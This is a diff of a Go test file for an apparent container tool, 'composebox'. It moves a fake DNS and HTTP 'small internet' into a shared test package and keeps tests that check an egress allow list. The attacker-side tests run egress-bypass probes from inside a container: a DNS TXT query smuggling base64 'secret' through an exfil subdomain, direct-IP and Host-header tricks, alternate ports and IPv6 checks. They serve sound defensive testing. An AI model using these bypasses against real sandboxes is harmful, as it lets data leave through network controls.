@@ -6,183 +6,19 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
-	"net"
-	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"slices"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
-	"github.com/miekg/dns"
-	"golang.org/x/sys/unix"
-
+	"github.com/composebox/composebox/internal/testutil"
 	"github.com/composebox/composebox/lifecycle"
 	"github.com/composebox/composebox/orchestrator"
 )
 
-// smallInternet is the outside world of the egress tests, in a network namespace of its own
-// joined to the host by a veth pair: a DNS server for the test names (pkgs.test, other.test),
-// and HTTP servers at their addresses. It records every query and request it sees, so that a
-// test can tell "refused" from "reached".
-type smallInternet struct {
-	prefix  string // "10.98.N"
-	mu      sync.Mutex
-	queries []string
-	hits    []string
-	udp     int
-}
-
-func (s *smallInternet) addr(host int) string { return fmt.Sprintf("%s.%d", s.prefix, host) }
-
-func (s *smallInternet) seen() (queries, hits []string, udp int) {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return append([]string(nil), s.queries...), append([]string(nil), s.hits...), s.udp
-}
-
-func sh(t *testing.T, name string, args ...string) string {
-	t.Helper()
-	out, err := exec.Command(name, args...).CombinedOutput()
-	if err != nil {
-		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
-	}
-	return string(out)
-}
-
-// inNetns runs f with this thread in netns: sockets f opens stay in it.
-func inNetns(t *testing.T, netns string, f func()) {
-	t.Helper()
-	runtime.LockOSThread()
-	defer runtime.UnlockOSThread()
-	orig, err := os.Open("/proc/thread-self/ns/net")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer orig.Close()
-	ns, err := os.Open("/var/run/netns/" + netns)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ns.Close()
-	if err := unix.Setns(int(ns.Fd()), unix.CLONE_NEWNET); err != nil {
-		t.Fatal(err)
-	}
-	defer func() {
-		if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
-			panic(err) // this thread must not go back to the scheduler in the wrong namespace
-		}
-	}()
-	f()
-}
-
-func startSmallInternet(t *testing.T) *smallInternet {
-	t.Helper()
-	if os.Geteuid() != 0 {
-		t.Skip("needs root for a network namespace")
-	}
-	n := os.Getpid()%200 + 20
-	s := &smallInternet{prefix: fmt.Sprintf("10.98.%d", n)}
-	netns := fmt.Sprintf("cbxegress%d", os.Getpid())
-	host, peer := fmt.Sprintf("cbxeh%d", os.Getpid()%100000), fmt.Sprintf("cbxen%d", os.Getpid()%100000)
-	t.Cleanup(func() {
-		_ = exec.Command("ip", "link", "del", host).Run()
-		_ = exec.Command("ip", "netns", "del", netns).Run()
-	})
-	sh(t, "ip", "netns", "add", netns)
-	sh(t, "ip", "link", "add", host, "type", "veth", "peer", "name", peer)
-	sh(t, "ip", "link", "set", peer, "netns", netns)
-	sh(t, "ip", "addr", "add", s.addr(1)+"/24", "dev", host)
-	sh(t, "ip", "link", "set", host, "up")
-	for _, a := range []int{2, 3, 53} {
-		sh(t, "ip", "-n", netns, "addr", "add", fmt.Sprintf("%s/24", s.addr(a)), "dev", peer)
-	}
-	sh(t, "ip", "-n", netns, "link", "set", peer, "up")
-	sh(t, "ip", "-n", netns, "link", "set", "lo", "up")
-	sh(t, "ip", "-n", netns, "route", "add", "default", "via", s.addr(1))
-
-	zone := map[string]string{"pkgs.test.": s.addr(2), "other.test.": s.addr(3)}
-	dnsHandler := dns.HandlerFunc(func(w dns.ResponseWriter, m *dns.Msg) {
-		r := new(dns.Msg)
-		r.SetReply(m)
-		q := m.Question[0]
-		s.mu.Lock()
-		s.queries = append(s.queries, strings.ToLower(q.Name))
-		s.mu.Unlock()
-		if a, ok := zone[strings.ToLower(q.Name)]; ok && q.Qtype == dns.TypeA {
-			r.Answer = append(r.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(a)})
-		} else if !ok {
-			r.Rcode = dns.RcodeNameError
-		}
-		_ = w.WriteMsg(r)
-	})
-	serve := func(addr, who string) {
-		l, err := net.Listen("tcp", addr)
-		if err != nil {
-			t.Fatal(err)
-		}
-		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-			s.mu.Lock()
-			s.hits = append(s.hits, who+" "+r.Host+r.URL.Path)
-			s.mu.Unlock()
-			fmt.Fprintf(w, "%s %s\n", who, r.URL.Path)
-		})}
-		go func() { _ = srv.Serve(l) }()
-		t.Cleanup(func() { _ = srv.Close() })
-	}
-	inNetns(t, netns, func() {
-		pc, err := net.ListenPacket("udp", s.addr(53)+":53")
-		if err != nil {
-			t.Fatal(err)
-		}
-		ds := &dns.Server{PacketConn: pc, Handler: dnsHandler}
-		go func() { _ = ds.ActivateAndServe() }()
-		t.Cleanup(func() { _ = ds.Shutdown() })
-		serve(s.addr(2)+":80", "pkgs")
-		serve(s.addr(2)+":8080", "pkgs8080")
-		serve(s.addr(3)+":80", "other")
-		for _, port := range []string{":443", ":53"} {
-			u, err := net.ListenPacket("udp", s.addr(2)+port)
-			if err != nil {
-				t.Fatal(err)
-			}
-			t.Cleanup(func() { _ = u.Close() })
-			go func() {
-				buf := make([]byte, 2048)
-				for {
-					if _, _, err := u.ReadFrom(buf); err != nil {
-						return
-					}
-					s.mu.Lock()
-					s.udp++
-					s.mu.Unlock()
-				}
-			}()
-		}
-	})
-	return s
-}
-
-// staticBinary builds composebox as the egress gateway's image needs it: static.
-func staticBinary(t *testing.T) string {
-	t.Helper()
-	bin := filepath.Join(t.TempDir(), "composebox")
-	build := exec.Command("go", "build", "-trimpath", "-o", bin, ".")
-	build.Env = append(os.Environ(), "CGO_ENABLED=0")
-	if out, err := build.CombinedOutput(); err != nil {
-		t.Fatalf("go build: %v\n%s", err, out)
-	}
-	return bin
-}
-
-// TestEgressDockerAttackerSide starts a sample whose compose file asks for x-egress:
-// [pkgs.test] with --egress pkgs.test, against a small internet of the test's own, and tries
-// every way around the list from inside the sample: each is refused, the outside never sees it,
-// and the refusals are egress_denied events. The allowed path works.
 // egressSample is a live restricted sample of a two-service task started by the composebox
 // binary with global flags before the verb: its project, a runner of the binary, and an HTTP
 // GET from its restricted service ("default"; host is the Host header, at "NAME PORT" where nc
@@ -194,8 +30,8 @@ type egressSample struct {
 	get     func(host, at, path string) string
 }
 
-func startEgressSample(t *testing.T, net *smallInternet, global ...string) egressSample {
-	bin := staticBinary(t)
+func startEgressSample(t *testing.T, net *testutil.SmallInternet, global ...string) egressSample {
+	bin := testutil.StaticComposebox(t)
 	dir := t.TempDir()
 	task := filepath.Join(dir, "egresstask")
 	if err := os.MkdirAll(task, 0o755); err != nil {
@@ -241,7 +77,7 @@ func startEgressSample(t *testing.T, net *smallInternet, global ...string) egres
 			}
 		}
 	})
-	out, err := run("up", "--task", taskName, "--egress", "pkgs.test", "--egress-resolver", net.addr(53), task)
+	out, err := run("up", "--task", taskName, "--egress", "pkgs.test", "--egress-resolver", net.Addr(53), task)
 	if err != nil {
 		t.Fatalf("up: %v", err)
 	}
@@ -258,8 +94,12 @@ func startEgressSample(t *testing.T, net *smallInternet, global ...string) egres
 	return egressSample{project: project, run: run, exec: execIn, get: get}
 }
 
+// TestEgressDockerAttackerSide starts a sample whose compose file asks for x-egress:
+// [pkgs.test] with --egress pkgs.test, against a small internet of the test's own, and tries
+// every way around the list from inside the sample: each is refused, the outside never sees it,
+// and the refusals are egress_denied events. The allowed path works.
 func TestEgressDockerAttackerSide(t *testing.T) {
-	net := startSmallInternet(t)
+	net := testutil.StartSmallInternet(t)
 	es := startEgressSample(t, net)
 	project, run, execIn, get := es.project, es.run, es.exec, es.get
 	ctr := project + "-default-1"
@@ -273,22 +113,22 @@ func TestEgressDockerAttackerSide(t *testing.T) {
 	if got := execIn(ctr, "nslookup -type=TXT c2VjcmV0.exfil.other.test"); !strings.Contains(got, "NXDOMAIN") {
 		t.Errorf("TXT for a subdomain of a non-listed name: %q", got)
 	}
-	if got := execIn(ctr, "nslookup pkgs.test "+net.addr(53)); strings.Contains(got, net.addr(2)) {
+	if got := execIn(ctr, "nslookup pkgs.test "+net.Addr(53)); strings.Contains(got, net.Addr(2)) {
 		t.Errorf("a direct query to the outside resolver was answered: %q", got)
 	}
 	if got := get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
 		t.Errorf("Host of a non-listed name: %q", got)
 	}
-	if got := get("pkgs.test", net.addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
+	if got := get("pkgs.test", net.Addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
 		t.Errorf("a direct connection to the allowed name's address: %q", got)
 	}
 	if got := get("pkgs.test", "pkgs.test 8080", "/other-port"); strings.Contains(got, "pkgs8080") {
 		t.Errorf("the allowed name on another port: %q", got)
 	}
-	if got := get("pkgs.test", net.addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
+	if got := get("pkgs.test", net.Addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
 		t.Errorf("the allowed name's address on another port: %q", got)
 	}
-	execIn(ctr, "nslookup -port=443 pkgs.test "+net.addr(2)+"; nslookup pkgs.test "+net.addr(2))
+	execIn(ctr, "nslookup -port=443 pkgs.test "+net.Addr(2)+"; nslookup pkgs.test "+net.Addr(2))
 	if got := execIn(ctr, "ip -6 route; ip -6 addr show scope global"); strings.Contains(got, "default") || strings.Contains(got, "inet6") {
 		t.Errorf("IPv6 around the list: %q", got)
 	}
@@ -296,7 +136,7 @@ func TestEgressDockerAttackerSide(t *testing.T) {
 		t.Errorf("services of the sample no longer reach each other: %q", got)
 	}
 
-	queries, hits, udp := net.seen()
+	queries, hits, udp := net.Seen()
 	for _, q := range queries {
 		if strings.Contains(q, "other.test") {
 			t.Errorf("the outside resolver saw %q", q)
@@ -416,7 +256,7 @@ func TestEgressOverEnginesAttackerSide(t *testing.T) {
 	if host == "" {
 		host = "unix:///var/run/docker.sock"
 	}
-	net := startSmallInternet(t)
+	net := testutil.StartSmallInternet(t)
 	es := startEgressSample(t, net, "--engine", "host="+host)
 	if got := es.get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
 		t.Fatalf("the allowed name over HTTP: %q", got)
